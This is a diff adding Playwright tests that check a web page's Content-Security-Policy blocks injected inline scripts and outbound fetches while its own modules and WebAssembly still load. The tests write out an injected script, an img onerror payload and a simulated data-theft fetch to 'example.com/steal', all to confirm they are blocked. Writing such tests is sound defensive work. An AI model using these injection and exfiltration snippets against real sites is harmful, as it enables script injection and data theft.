@@ -1,0 +1,49 @@
+"""The page's Content-Security-Policy (the <meta> in index.html): an injected inline script does not
+run and a fetch to a foreign host never leaves the browser, while the page's own modules load."""
+
+from __future__ import annotations
+
+LISTEN = """() => { window.__violations = [];
+  document.addEventListener('securitypolicyviolation',
+    (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI)); }"""
+
+
+def test_the_policy_is_in_the_page(page, site):
+    page.goto(site)
+    policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
+    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
+    assert "object-src 'none'" in policy
+
+
+def test_injected_inline_script_is_blocked(page, site):
+    page.goto(site)
+    page.evaluate(LISTEN)
+    page.evaluate("""() => { const s = document.createElement('script');
+        s.textContent = 'window.__inline = 1'; document.body.append(s);
+        document.body.insertAdjacentHTML('beforeend',
+          '<img src="x.png" onerror="window.__inline = 2">'); }""")
+    page.wait_for_function("window.__violations.length >= 2", timeout=10_000)
+    assert page.evaluate("window.__inline") is None
+    assert all(v.startswith("script-src") for v in page.evaluate("window.__violations"))
+
+
+def test_fetch_to_a_foreign_host_is_blocked_by_the_policy(page, site):
+    page.goto(site)
+    page.evaluate(LISTEN)
+    outcome = page.evaluate("""async () => {
+        try { await fetch('https://example.com/steal?x=1'); return 'sent'; }
+        catch (err) { return 'blocked: ' + err.message; } }""")
+    assert outcome.startswith("blocked")
+    page.wait_for_function("window.__violations.length >= 1", timeout=10_000)
+    assert page.evaluate("window.__violations")[0].startswith("connect-src")
+    # It never reached the network: the context's request log (asserted empty by the fixture)
+    # would have recorded it.
+
+
+def test_own_modules_and_wasm_still_load_under_the_policy(page, site):
+    page.goto(site)
+    page.evaluate(LISTEN)
+    ok = page.evaluate("""async () => { const r = await fetch('./vendor/pyodide/pyodide.asm.wasm');
+        const m = await WebAssembly.compile(await r.arrayBuffer()); return !!m; }""")
+    assert ok
+    assert page.evaluate("window.__violations") == []
